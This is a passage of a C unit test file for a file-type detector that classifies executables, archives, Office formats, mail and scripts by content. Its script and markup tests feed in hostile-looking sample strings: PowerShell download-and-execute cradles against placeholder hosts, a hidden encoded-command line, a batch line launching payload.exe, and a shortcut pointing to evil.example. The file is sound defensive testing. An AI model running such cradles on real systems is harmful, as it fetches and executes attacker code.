/*
 * test_filetype.c - true file types by content (filetype.h) and the checks
 * on file names (filename.h).
 *
 * Real files where this machine has them: the ClamAV test files in
 * /usr/share/clamav-testfiles (skipped when absent), a few Office, OneNote,
 * LNK and 7z files in tests/unit/data/filetype (see PROVENANCE there) and
 * /bin/true.  Everything else is built here from the format's layout.
 */
#include "test_helpers.h"

#include <pthread.h>
#include <stdio.h>
#include <time.h>

#include <glib/gstdio.h>

#include "objects/filename.h"
#include "objects/filetype.h"

#define CLAMAV_DIR "/usr/share/clamav-testfiles"

static char *
data_path(const char *name)
{
	char *dir = g_path_get_dirname(__FILE__);
	char *p = g_build_filename(dir, "data", "filetype", name, NULL);
	g_free(dir);
	return p;
}

/* the whole file, or NULL (the caller skips) */
static uint8_t *
load(const char *path, size_t *n)
{
	gchar *b = NULL;
	gsize len = 0;
	if (!g_file_get_contents(path, &b, &len, NULL))
		return NULL;
	*n = len;
	return (uint8_t *)b;
}

static uint8_t *
load_data(const char *name, size_t *n)
{
	char *p = data_path(name);
	uint8_t *b = load(p, n);
	if (b == NULL)
		print_error("missing fixture %s\n", p);
	g_free(p);
	assert_non_null(b);
	return b;
}

static const char *
detect_name(const uint8_t *p, size_t n)
{
	return ftype_detect(p, n, n, NULL, 0)->name;
}

/* Detect with and without desc: both must agree. */
static void
expect_type(const uint8_t *p, size_t n, const char *want, const char *what)
{
	char desc[256];
	const struct ftype *a = ftype_detect(p, n, n, NULL, 0);
	const struct ftype *b = ftype_detect(p, n, n, desc, sizeof desc);
	if (strcmp(a->name, want) != 0 || a != b) {
		print_error("%s: got %s / %s (%s), want %s\n", what, a->name, b->name,
		    desc, want);
		fail();
	}
}

static void
expect_str(const char *s, const char *want)
{
	expect_type((const uint8_t *)s, strlen(s), want, s);
}

/* ---- real files ---- */

static const struct {
	const char *file, *type;
} clamav_files[] = {
	{ "clam.exe", "pe" }, { "clam-upx.exe", "pe" }, { "clam_ISmsi_ext.exe", "pe" },
	{ "clam.7z", "7z" }, { "clam.arj", "arj" }, { "clam.bin-be.cpio", "cpio" },
	{ "clam.bin-le.cpio", "cpio" }, { "clam.newc.cpio", "cpio" },
	{ "clam.odc.cpio", "cpio" }, { "clam.cab", "cab" }, { "clam.chm", "chm" },
	{ "clam.zip", "zip" }, { "clam.bz2.zip", "zip" }, { "clam.exe.bz2", "bzip2" },
	{ "clam.exe.rtf", "rtf" }, { "clam.pdf", "pdf" }, { "clam.ole.doc", "doc" },
	{ "clam.ppt", "ppt" }, { "clam.tnef", "tnef" }, { "clam.exe.binhex", "binhex" },
	{ "clam.exe.mbox.uu", "mbox" }, { "clam.exe.mbox.base64", "mbox" },
	{ "clam.mail", "email" }, { "clam.tar.gz", "gzip" }, { "clam.exe.html", "html" },
	{ "clam.exe.szdd", "szdd" }, { "clam.sis", "unknown" },
};

static void
test_clamav_files(void **state)
{
	(void)state;
	if (!g_file_test(CLAMAV_DIR, G_FILE_TEST_IS_DIR))
		skip();
	for (size_t i = 0; i < G_N_ELEMENTS(clamav_files); i++) {
		char *path = g_build_filename(CLAMAV_DIR, clamav_files[i].file, NULL);
		size_t n = 0;
		uint8_t *b = load(path, &n);
		if (b == NULL) {
			print_error("missing %s\n", path);
			fail();
		}
		expect_type(b, n, clamav_files[i].type, clamav_files[i].file);
		g_free(b);
		g_free(path);
	}
}

static const struct {
	const char *file, *type;
} data_files[] = {
	{ "excel4_sample_macro.xlsm", "xlsm" }, { "excel4_sample_macro.xls", "xls" },
	{ "harmless-clean.docx", "docx" }, { "dde-test.xlsx", "xlsx" },
	{ "test_password.7z", "7z" }, { "encrypted.docx", "ole2" },
	{ "test.one.head", "onenote" }, { "test.vba", "vbs" },
};

static void
test_data_files(void **state)
{
	(void)state;
	for (size_t i = 0; i < G_N_ELEMENTS(data_files); i++) {
		size_t n = 0;
		uint8_t *b = load_data(data_files[i].file, &n);
		expect_type(b, n, data_files[i].type, data_files[i].file);
		g_free(b);
	}
	/* the LNK is stored base64-encoded upstream */
	size_t n = 0;
	uint8_t *b64 = load_data("microsoft_example.lnk.b64", &n);
	char *s = g_strndup((const char *)b64, n);
	gsize ln = 0;
	guchar *lnk = g_base64_decode(s, &ln);
	assert_true(ln > 76);
	expect_type(lnk, ln, "lnk", "microsoft_example.lnk");
	/* the base64 text itself is text */
	expect_type(b64, n, "text", "microsoft_example.lnk.b64");
	g_free(lnk);
	g_free(s);
	g_free(b64);
}

static void
test_elf(void **state)
{
	(void)state;
	size_t n = 0;
	uint8_t *b = load("/bin/true", &n);
	if (b == NULL)
		skip();
	expect_type(b, n, "elf", "/bin/true");
	/* only a prefix visible */
	assert_string_equal(ftype_detect(b, 64, n, NULL, 0)->name, "elf");
	g_free(b);
}

/* ---- built from the format ---- */

static void
put32le(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
	p[2] = (uint8_t)(v >> 16);
	p[3] = (uint8_t)(v >> 24);
}

static void
put16le(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
}

/* A minimal PE: MZ, e_lfanew, PE\0\0. */
static void
test_pe_built(void **state)
{
	(void)state;
	uint8_t b[0x200] = { 'M', 'Z' };
	put32le(b + 0x3c, 0x80);
	memcpy(b + 0x80, "PE\0\0", 4);
	expect_type(b, sizeof b, "pe", "pe");
	/* the PE header beyond the prefix, but inside the object */
	assert_string_equal(ftype_detect(b, 0x40, 0x1000, NULL, 0)->name, "pe");
	/* e_lfanew pointing outside the object: no PE header (libmagic may still
	 * call it a DOS executable) and no read out of bounds */
	put32le(b + 0x3c, 0x7ffffff0u);
	assert_non_null(ftype_detect(b, sizeof b, sizeof b, NULL, 0));
	/* "MZ" prose */
	expect_str("MZone is a nice place to be, says the brochure.\n", "text");
}

static void
test_macho(void **state)
{
	(void)state;
	static const uint8_t m64[] = { 0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, 3, 0, 0, 0 };
	static const uint8_t m32be[] = { 0xFE, 0xED, 0xFA, 0xCE, 0, 0, 0, 18, 0, 0, 0, 0 };
	static const uint8_t fat[] = { 0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2, 0, 0, 0, 7 };
	static const uint8_t java[] = { 0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, 0, 0x1d };
	expect_type(m64, sizeof m64, "macho", "macho64");
	expect_type(m32be, sizeof m32be, "macho", "macho32be");
	expect_type(fat, sizeof fat, "macho", "fat");
	assert_string_not_equal(detect_name(java, sizeof java), "macho");
}

/* An OLE2 header whose first directory sector holds a root entry with clsid. */
static uint8_t *
ole2_with(const uint8_t clsid[16], const char *stream, size_t *n)
{
	*n = 3 * 512;
	uint8_t *b = g_malloc0(*n);
	memcpy(b, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
	put16le(b + 0x1a, 3);
	put16le(b + 0x1c, 0xfffe);
	put16le(b + 0x1e, 9);
	put32le(b + 0x30, 1);	/* directory in sector 1, at offset 1024 */
	uint8_t *root = b + 1024;
	static const char rn[] = "Root Entry";
	for (size_t i = 0; i < sizeof rn - 1; i++)
		root[2 * i] = (uint8_t)rn[i];
	put16le(root + 0x40, (uint16_t)(2 * sizeof rn));
	root[0x42] = 5;
	if (clsid != NULL)
		memcpy(root + 0x50, clsid, 16);
	if (stream != NULL) {
		uint8_t *e = root + 128;
		size_t sl = strlen(stream);
		for (size_t i = 0; i < sl; i++)
			e[2 * i] = (uint8_t)stream[i];
		put16le(e + 0x40, (uint16_t)(2 * sl + 2));
		e[0x42] = 2;
	}
	return b;
}

static void
test_ole2_kinds(void **state)
{
	(void)state;
	static const uint8_t msi[16] = { 0x84, 0x10, 0x0C, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46 };
	static const uint8_t word[16] = { 0x06, 0x09, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46 };
	static const uint8_t excel[16] = { 0x20, 0x08, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46 };
	static const uint8_t ppt[16] = { 0x10, 0x8D, 0x81, 0x64, 0x9B, 0x4F, 0xCF, 0x11,
		0x86, 0xEA, 0x00, 0xAA, 0x00, 0xB9, 0x29, 0xE8 };
	const struct {
		const uint8_t *clsid;
		const char *stream, *want;
	} cases[] = {
		{ msi, NULL, "msi" }, { word, NULL, "doc" }, { excel, NULL, "xls" },
		{ ppt, NULL, "ppt" }, { NULL, "WordDocument", "doc" },
		{ NULL, "Workbook", "xls" }, { NULL, "PowerPoint Document", "ppt" },
		{ NULL, "__substg1.0_0037001F", "msg" }, { NULL, "EncryptedPackage", "ole2" },
		{ NULL, NULL, "ole2" },
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		size_t n;
		uint8_t *b = ole2_with(cases[i].clsid, cases[i].stream, &n);
		expect_type(b, n, cases[i].want, cases[i].want);
		/* directory not visible: still OLE2 */
		assert_string_equal(ftype_detect(b, 600, n, NULL, 0)->name, "ole2");
		g_free(b);
	}
}

/* A zip local file header for name with data (stored). */
static void
zip_entry(GByteArray *z, const char *name, const char *data)
{
	uint8_t h[30] = { 'P', 'K', 3, 4, 20 };
	size_t nl = strlen(name), dl = strlen(data);
	put32le(h + 18, (uint32_t)dl);
	put32le(h + 22, (uint32_t)dl);
	put16le(h + 26, (uint16_t)nl);
	g_byte_array_append(z, h, sizeof h);
	g_byte_array_append(z, (const guint8 *)name, (guint)nl);
	g_byte_array_append(z, (const guint8 *)data, (guint)dl);
}

static void
expect_zip(const char *const *names, const char *first_data, const char *want)
{
	GByteArray *z = g_byte_array_new();
	for (size_t i = 0; names[i] != NULL; i++)
		zip_entry(z, names[i], i == 0 && first_data != NULL ? first_data : "x");
	expect_type(z->data, z->len, want, want);
	g_byte_array_free(z, TRUE);
}

static void
test_zip_family(void **state)
{
	(void)state;
	expect_zip((const char *const[]){ "[Content_Types].xml", "_rels/.rels",
	    "word/document.xml", NULL }, NULL, "docx");
	expect_zip((const char *const[]){ "[Content_Types].xml", "word/document.xml",
	    "word/vbaProject.bin", NULL }, NULL, "docm");
	expect_zip((const char *const[]){ "[Content_Types].xml", "xl/workbook.xml", NULL },
	    NULL, "xlsx");
	expect_zip((const char *const[]){ "[Content_Types].xml", "xl/workbook.bin", NULL },
	    NULL, "xlsb");
	expect_zip((const char *const[]){ "[Content_Types].xml", "ppt/presentation.xml", NULL },
	    NULL, "pptx");
	expect_zip((const char *const[]){ "[Content_Types].xml", "ppt/presentation.xml",
	    "ppt/vbaProject.bin", NULL }, NULL, "pptm");
	/* a macro-enabled content type, stored */
	expect_zip((const char *const[]){ "[Content_Types].xml", "word/document.xml", NULL },
	    "<Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>",
	    "docm");
	expect_zip((const char *const[]){ "[Content_Types].xml", "_rels/.rels", NULL },
	    NULL, "ooxml");
	expect_zip((const char *const[]){ "mimetype", "content.xml", NULL },
	    "application/vnd.oasis.opendocument.text", "odt");
	expect_zip((const char *const[]){ "mimetype", "content.xml", NULL },
	    "application/vnd.oasis.opendocument.spreadsheet", "ods");
	expect_zip((const char *const[]){ "mimetype", "content.xml", NULL },
	    "application/vnd.oasis.opendocument.presentation", "odp");
	expect_zip((const char *const[]){ "mimetype", NULL },
	    "application/vnd.oasis.opendocument.graphics", "odf");
	expect_zip((const char *const[]){ "META-INF/MANIFEST.MF", "a/B.class", NULL },
	    NULL, "jar");
	expect_zip((const char *const[]){ "invoice.pdf", "readme.txt", NULL }, NULL, "zip");
	/* empty zip: only the end record */
	expect_type(BYTES("PK\5\6\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"), "zip", "empty zip");
}

static uint8_t *
volume(const char *const *ids, size_t *n)
{
	size_t k = 0;
	while (ids[k] != NULL)
		k++;
	*n = 0x8000 + (k + 1) * 0x800;
	uint8_t *b = g_malloc0(*n);
	for (size_t i = 0; i < k; i++) {
		b[0x8000 + i * 0x800] = (uint8_t)(i == 0 ? 1 : 0);
		memcpy(b + 0x8000 + i * 0x800 + 1, ids[i], 5);
		b[0x8000 + i * 0x800 + 6] = 1;
	}
	return b;
}

static void
test_disk_images(void **state)
{
	(void)state;
	size_t n;
	uint8_t *b = volume((const char *const[]){ "CD001", "CD001", NULL }, &n);
	b[0x8800] = 0xff;
	expect_type(b, n, "iso", "iso");
	/* the descriptor not visible: not called iso */
	assert_string_not_equal(ftype_detect(b, 0x8000, n, NULL, 0)->name, "iso");
	g_free(b);
	b = volume((const char *const[]){ "BEA01", "NSR02", "TEA01", NULL }, &n);
	expect_type(b, n, "udf", "udf");
	g_free(b);
	/* UDF bridge: both; ISO wins */
	b = volume((const char *const[]){ "CD001", "BEA01", "NSR03", "TEA01", NULL }, &n);
	expect_type(b, n, "iso", "bridge");
	g_free(b);

	uint8_t fat[1024] = { 0xEB, 0x3C, 0x90, 'M', 'S', 'D', 'O', 'S', '5', '.', '0' };
	put16le(fat + 11, 512);
	memcpy(fat + 54, "FAT12   ", 8);
	fat[510] = 0x55;
	fat[511] = 0xAA;
	expect_type(fat, sizeof fat, "img", "fat12");
	uint8_t vhd[512] = "conectix";
	expect_type(vhd, sizeof vhd, "vhd", "vhd");
	uint8_t vhdx[512] = "vhdxfile";
	expect_type(vhdx, sizeof vhdx, "vhdx", "vhdx");
}

/* ISO 9660 made by xorriso, when it is installed. */
static void
test_iso_xorriso(void **state)
{
	(void)state;
	char *xorriso = g_find_program_in_path("xorriso");
	if (xorriso == NULL)
		skip();
	char *dir = g_dir_make_tmp("ftiso-XXXXXX", NULL);
	assert_non_null(dir);
	char *src = g_build_filename(dir, "in.txt", NULL);
	char *iso = g_build_filename(dir, "out.iso", NULL);
	assert_true(g_file_set_contents(src, "hello\n", -1, NULL));
	char *argv[] = { xorriso, (char *)"-outdev", iso, (char *)"-map", src,
		(char *)"/in.txt", NULL };
	int status = -1;
	assert_true(g_spawn_sync(NULL, argv, NULL, G_SPAWN_STDOUT_TO_DEV_NULL |
	    G_SPAWN_STDERR_TO_DEV_NULL, NULL, NULL, NULL, NULL, &status, NULL));
	assert_int_equal(status, 0);
	size_t n = 0;
	uint8_t *b = load(iso, &n);
	assert_non_null(b);
	expect_type(b, n, "iso", "xorriso iso");
	assert_string_equal(ftype_detect(b, FTYPE_SNIFF_LEN, n, NULL, 0)->name, "iso");
	g_free(b);
	g_unlink(iso);
	g_unlink(src);
	g_rmdir(dir);
	g_free(iso);
	g_free(src);
	g_free(dir);
	g_free(xorriso);
}

static void
test_small_signatures(void **state)
{
	(void)state;
	expect_type(BYTES("7z\xBC\xAF\x27\x1C\0\x04"), "7z", "7z");
	expect_type(BYTES("Rar!\x1A\x07\x00\xCF\x90\x73\0\0\x0D\0"), "rar", "rar4");
	expect_type(BYTES("Rar!\x1A\x07\x01\x00\x33\x92\xB5\xE5"), "rar", "rar5");
	expect_type(BYTES("\x1F\x8B\x08\0\0\0\0\0\0\x03"), "gzip", "gzip");
	expect_type(BYTES("BZh91AY&SY\0\0"), "bzip2", "bzip2");
	expect_type(BYTES("\xFD" "7zXZ\0\0\x04\xE6\xD6\xB4\x46"), "xz", "xz");
	expect_type(BYTES("\x28\xB5\x2F\xFD\x24\x05\x29\0\0hello"), "zstd", "zstd");
	expect_type(BYTES("\x5D\0\0\x80\0\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\0\x34"), "lzma", "lzma");
	expect_type(BYTES("\x5D\0\0\x10\0\x05\0\0\0\0\0\0\0\0\x34"), "lzma", "lzma sized");
	expect_type(BYTES("MSCF\0\0\0\0\x95\x02\0\0"), "cab", "cab");
	expect_type(BYTES("ITSF\3\0\0\0\x60\0\0\0"), "chm", "chm");
	expect_type(BYTES("\x78\x9F\x3E\x22\x01\x00"), "tnef", "tnef");
	expect_type(BYTES("SZDD\x88\xF0\x27\x33\x41\0\x20\x02\0\0"), "szdd", "szdd");
	expect_type(BYTES("SZ \x88\xF0\x27\x33\xD1\x20\x02\0\0"), "szdd", "szdd qbasic");
	expect_type(BYTES("KWAJ\x88\xF0\x27\xD1\x03\0\x12\0\0\0"), "kwaj", "kwaj");
	expect_type(BYTES("SZDD\x88\xF0\x27\x34\x41\0"), "unknown", "szdd bad magic");
	expect_type(BYTES("\x29\x12-lh5-\x10\0\0\0\x20\0\0\0\0\0\0\0\x20\x01\x08"), "lha", "lha");
	expect_type(BYTES("\0\0\0\0\0\0\0**ACE**\0\0\0\0"), "ace", "ace");
	expect_type(BYTES("\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), "png", "png");
	expect_type(BYTES("\xFF\xD8\xFF\xE0\0\x10JFIF\0"), "jpeg", "jpeg");
	expect_type(BYTES("GIF89a\1\0\1\0\0\0\0"), "gif", "gif");
	expect_type(BYTES("BM\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\1\0"), "bmp", "bmp");
	expect_type(BYTES("II*\0\x08\0\0\0"), "tiff", "tiff le");
	expect_type(BYTES("MM\0*\0\0\0\x08"), "tiff", "tiff be");
	expect_type(BYTES("\0\0\1\0\1\0\x10\x10\0\0\1\0\x20\0\x68\x04\0\0\x16\0\0\0"), "ico", "ico");
	expect_type(BYTES("RIFF\x24\0\0\0WEBPVP8 "), "webp", "webp");
	expect_type(BYTES("{\\rtf1\\ansi hello}"), "rtf", "rtf");
	expect_type(BYTES("{\\rt\\ansi obfuscated}"), "rtf", "rtf short");
	expect_type(BYTES("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n"), "pdf", "pdf");
	/* PDF header after junk, within 1024 bytes */
	expect_type(BYTES("\x01\x02junk junk\0\0%PDF-1.4\n"), "pdf", "pdf late");
	expect_type(BYTES("vhdxfile"), "vhdx", "vhdx short");

	uint8_t tar[1024] = "hello.txt";
	memcpy(tar + 257, "ustar\0" "00", 8);
	expect_type(tar, sizeof tar, "tar", "tar");
	static const uint8_t onenote[] = { 0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D,
		0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3, 0, 0 };
	expect_type(onenote, sizeof onenote, "onenote", "onenote");
	static const uint8_t lnk[76] = { 0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0,
		0xC0, 0, 0, 0, 0, 0, 0, 0x46 };
	expect_type(lnk, sizeof lnk, "lnk", "lnk");
}

/* ---- text formats ---- */

static void
test_markup(void **state)
{
	(void)state;
	expect_str("<!DOCTYPE html>\n<html><body>hi</body></html>\n", "html");
	expect_str("\xEF\xBB\xBF  \r\n<HTML>\n<HEAD><TITLE>x</TITLE></HEAD>", "html");
	expect_str("<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\">"
	    "<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script>",
	    "hta");
	expect_str("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\">"
	    "<script>alert(1)</script></svg>", "svg");
	expect_str("<svg width=\"10\" height=\"10\"></svg>", "svg");
	expect_str("<?xml version=\"1.0\"?>\n<note><to>Tove</to></note>\n", "xml");
	expect_str("<?xml version=\"1.0\"?>\n<package><job id=\"a\"><script language=\"JScript\">"
	    "WScript.Echo(1);</script></job></package>", "wsf");
	expect_str("<job><script language=\"VBScript\">MsgBox 1</script></job>", "wsf");
	expect_str("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<PCSettings><SearchableContent>"
	    "<ApplicationInformation><DeepLink>cmd.exe</DeepLink></ApplicationInformation>"
	    "</SearchableContent></PCSettings>", "settingcontent");
	expect_str("<p>Dear customer,</p><p>please find the invoice attached.</p>", "html");
	expect_str("<!-- saved from url -->\n<html><body>x</body></html>", "html");
	expect_str("[InternetShortcut]\r\nURL=file://evil.example/share/a.exe\r\n", "url");
}

/* Office documents saved as one XML or MIME file, and ActiveMime parts
 * (flatxml.c, activemime.c): by root element, whatever the name. */
static void
test_office_flat(void **state)
{
	(void)state;
	expect_str("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"
	    "<?mso-application progid=\"Word.Document\"?>\r\n<w:wordDocument xmlns:w=\""
	    "http://schemas.microsoft.com/office/word/2003/wordml\"><w:body/></w:wordDocument>",
	    "wordxml");
	expect_str("<?xml version=\"1.0\"?>\n<?mso-application progid=\"Word.Document\"?>\n"
	    "<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
	    "<pkg:part pkg:name=\"/word/document.xml\"/></pkg:package>", "flatopc");
	expect_str("<?xml version=\"1.0\"?>\n<?mso-application progid=\"Excel.Sheet\"?>\n"
	    "<!-- saved -->\n<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" "
	    "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"></Workbook>", "excelxml");
	/* the root element decides, not a namespace mentioned elsewhere */
	expect_str("<?xml version=\"1.0\"?>\n<note>urn:schemas-microsoft-com:office:spreadsheet"
	    " <Workbook/></note>", "xml");
	expect_str("<?xml version=\"1.0\"?>\n<w:wordDocument xmlns:w=\"urn:other\"/>", "xml");
	expect_str("MIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n"
	    "\tboundary=\"----=_NextPart_01D0\"\r\n\r\nThis document is a Single File Web Page,"
	    " also known as a Web Archive file.\r\n\r\n------=_NextPart_01D0\r\n", "mht");
	/* a mail with transport fields stays a mail; multipart/mixed is no MHT */
	expect_str("From: a@example.com\r\nTo: b@example.com\r\nSubject: hi\r\n"
	    "Date: Mon, 1 Jan 2024 00:00:00 +0000\r\nMessage-ID: <1@x>\r\nMIME-Version: 1.0\r\n"
	    "Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\n", "email");
	expect_str("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
	    "--b\r\n", "text");
	static const uint8_t mso[] = "ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff";
	expect_type(mso, sizeof(mso) - 1, "activemime", "ActiveMime header");
	assert_ptr_equal(ftype_from_extension("page.mht"), ftype_by_name("mht"));
	assert_ptr_equal(ftype_from_extension("editdata.mso"), ftype_by_name("activemime"));
	/* saved as .doc: the Office family, no mismatch */
	assert_false(ftype_mismatch(ftype_from_extension("a.doc"), ftype_by_name("wordxml")));
	assert_false(ftype_mismatch(ftype_from_extension("a.doc"), ftype_by_name("mht")));
	assert_false(ftype_mismatch(ftype_from_extension("a.xml"), ftype_by_name("flatopc")));
	assert_true(ftype_by_name("mht")->flags & FT_MACRO_CAPABLE);
}

static void
test_mail(void **state)
{
	(void)state;
	expect_str("Return-Path: <a@example.com>\nReceived: from x by y; Mon, 1 Jan 2024\n"
	    "From: A <a@example.com>\nTo: b@example.com\nSubject: hi\n\nbody\n", "email");
	expect_str("From: a@example.com\r\nTo: b@example.com\r\nSubject: hi\r\n"
	    "Date: Mon, 1 Jan 2024 00:00:00 +0000\r\nMessage-ID: <1@x>\r\n"
	    "Content-Type: text/plain;\r\n charset=utf-8\r\n\r\nbody\r\n", "email");
	expect_str("From a@example.com Mon Jan  1 00:00:00 2024\nFrom: a@example.com\n"
	    "To: b@example.com\nSubject: x\n\nbody\n", "mbox");
	/* a MIME part header alone is not a mail */
	expect_str("Content-Type: text/plain\nContent-Transfer-Encoding: 7bit\n"
	    "Content-Disposition: inline\n\nhello\n", "text");
	/* prose with a colon is not a header block */
	expect_str("Subject: the meeting\nWe met on Monday and talked about: budgets.\n", "text");
	expect_str("(This file must be converted with BinHex 4.0)\n:$f*TEQKPH#jdCA0d,R0TG!\n",
	    "binhex");
	expect_str("begin 644 clam.exe\nM35J0``,````$````__\\``+@`````````0```\nend\n",
	    "uuencode");
	expect_str("Here is the file:\n\nbegin 600 a.bin\n#86)C\n`\nend\n", "uuencode");
}

static void
test_scripts(void **state)
{
	(void)state;
	expect_str("#!/bin/sh\necho hi\n", "sh");
	expect_str("#!/usr/bin/env bash\nset -e\n", "sh");
	expect_str("#!/usr/bin/python3\nprint(1)\n", "script");
	expect_str("@echo off\r\nstart calc.exe\r\n", "bat");
	expect_str("  @ECHO OFF\r\n", "bat");
	expect_str("rem setup\r\nset /a x=1\r\ncd /d %~dp0\r\ncmd /c start /b payload.exe\r\n"
	    "exit /b 0\r\n", "bat");
	expect_str("$c = New-Object Net.WebClient\n$s = $c.DownloadString('http://x/a')\n"
	    "IEX $s\nInvoke-Expression $s\n", "ps1");
	expect_str("powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4A "
	    "[Convert]::FromBase64String($env:X)\n", "ps1");
	expect_str("Set sh = CreateObject(\"WScript.Shell\")\nDim x\nx = \"calc\"\n"
	    "sh.Run x, 0\n", "vbs");
	expect_str("On Error Resume Next\nDim a, b\nSet a = CreateObject(\"Scripting.FileSystemObject\")\n"
	    "If a.FileExists(\"c:\\x\") Then\n  b = 1\nEnd If\n", "vbs");
	/* an exported VBA module (ole.c's children) */
	expect_str("Attribute VB_Name = \"Module1\"\nSub Action_Click()\n"
	    "  MsgBox \"The action button clicked!\"\nEnd Sub\n", "vba");
	expect_str("#@~^XQAAAA==\\ko$K6,/c^DdfyYb:E^\n", "vbs");
	expect_str("var sh = new ActiveXObject(\"WScript.Shell\");\n"
	    "var fso = new ActiveXObject(\"Scripting.FileSystemObject\");\n"
	    "function run(c) { sh.Run(c, 0); }\nrun(\"calc\");\n", "js");
	expect_str("var _0x1a=['\\x63\\x61\\x6c\\x63'];function d(s){return String.fromCharCode"
	    "(s.charCodeAt(0)^1);}\nvar k=unescape('%u0041');eval(d(_0x1a[0]));\n", "js");
	/* UTF-16LE PowerShell */
	const char *ps = "IEX (New-Object Net.WebClient).DownloadString('http://x');$env:T\n";
	size_t pl = strlen(ps);
	uint8_t *u = g_malloc(2 + 2 * pl);
	u[0] = 0xFF;
	u[1] = 0xFE;
	for (size_t i = 0; i < pl; i++) {
		u[2 + 2 * i] = (uint8_t)ps[i];
		u[3 + 2 * i] = 0;
	}
	expect_type(u, 2 + 2 * pl, "ps1", "utf16 ps1");
	g_free(u);
}

/* Ordinary attachments that must stay text (or html). */
static void
test_no_script_false_positives(void **state)
{
	(void)state;
	expect_str("Dear Sir,\n\nPlease find attached the invoice for March. Set the date "
	    "on the form and send it back. Dim lights in the meeting room were reported; "
	    "we will fix them. If you need the function list, let me know.\n\n"
	    "Regards,\nJohn\n", "text");
	expect_str("\xE3\x81\x8A\xE4\xB8\x96\xE8\xA9\xB1\xE3\x81\xAB\xE3\x81\xAA\xE3\x81\xA3"
	    "\xE3\x81\xA6\xE3\x81\x8A\xE3\x82\x8A\xE3\x81\xBE\xE3\x81\x99\xE3\x80\x82\n"
	    "\xE8\xA6\x8B\xE7\xA9\x8D\xE6\x9B\xB8\xE3\x82\x92\xE6\xB7\xBB\xE4\xBB\x98"
	    "\xE3\x81\x97\xE3\x81\xBE\xE3\x81\x99\xE3\x80\x82\n", "text");
	/* Shift_JIS prose */
	expect_str("\x82\xA8\x90\xA2\x98\x62\x82\xC9\x82\xC8\x82\xC1\x82\xC4\x82\xA8\x82\xE8"
	    "\x82\xDC\x82\xB7\x81\x42\n\x8C\xA9\x90\xCF\x8F\x91\x82\xF0\x93\x59\x95\x74\n", "text");
	expect_str("date,item,amount\n2024-01-01,paper,100\n2024-01-02,\"toner; black\",250\n"
	    "2024-01-03,set of pens,30\n", "text");
	expect_str("Hi team,\n\nthe bug is in this C function:\n\nint f(int x) {\n"
	    "\tif (x > 0) { return g(x); }\n\treturn 0;\n}\n\nand in Python:\n\n"
	    "def f(x):\n    return eval_expr(x)\n\nThanks\n", "text");
	expect_str("Here is a JS snippet for the web page:\n\nfunction hello() {\n"
	    "  var x = document.getElementById('a');\n  x.innerText = 'hi';\n}\n", "text");
	expect_str("To install, open a command prompt and run cmd /c setup.exe. Then "
	    "reboot. If problems persist, call the help desk.\n", "text");
	expect_str("The Set-Up meeting: dim sum at noon; end sub-committee at 3.\n", "text");
	expect_str("<html><body><p>Use <code>new ActiveXObject</code> only in IE.</p>"
	    "<script>var a = 1;</script></body></html>", "html");
	expect_str("Bonjour,\n\nVoici le devis demand\xC3\xA9. Cordialement.\n", "text");
}

static void
test_empty_and_unknown(void **state)
{
	(void)state;
	char desc[64] = "junk";
	const struct ftype *t = ftype_detect(NULL, 0, 0, desc, sizeof desc);
	assert_string_equal(t->name, "empty");
	assert_true((t->flags & FT_TEXT) == 0);
	assert_string_equal(ftype_detect((const uint8_t *)"", 0, 0, NULL, 0)->name, "empty");
	/* nothing visible of a non-empty object */
	assert_string_equal(ftype_detect((const uint8_t *)"", 0, 100, NULL, 0)->name, "unknown");
	static const uint8_t rnd[] = { 0x13, 0x00, 0x9a, 0xfe, 0x00, 0x42, 0x77, 0x01,
		0x00, 0xc3, 0x11, 0x00, 0x05, 0x99, 0xf0, 0x00 };
	assert_string_equal(detect_name(rnd, sizeof rnd), "unknown");
	/* desc truncated, NUL-terminated */
	char small[8];
	ftype_detect((const uint8_t *)"%PDF-1.4\n", 9, 9, small, sizeof small);
	assert_true(strlen(small) < sizeof small);
}

/* Every prefix of real files: never NULL, no read beyond len (ASan), and
 * the full type from a modest prefix on. */
static void
prefixes(const uint8_t *b, size_t n, const char *want, size_t stable_from)
{
	size_t max = n < 4096 ? n : 4096;
	for (size_t k = 0; k <= max; k++) {
		uint8_t *c = g_memdup2(b, k);
		const struct ftype *t = ftype_detect(c, k, n, NULL, 0);
		assert_non_null(t);
		if (k >= stable_from && strcmp(t->name, want) != 0) {
